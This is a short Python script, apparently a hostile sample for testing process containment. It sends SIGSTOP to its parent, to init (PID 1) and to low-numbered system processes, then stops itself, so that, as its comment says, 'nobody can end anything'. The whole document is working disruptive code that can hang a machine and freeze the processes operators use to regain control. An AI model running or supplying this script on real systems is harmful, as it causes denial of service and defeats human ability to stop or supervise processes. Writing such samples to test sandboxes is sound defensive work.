# Tries: to stop its ancestors, and then itself, so that nobody can end anything.
import os
import signal

for pid in (os.getppid(), 1, *range(2, 64)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGSTOP)
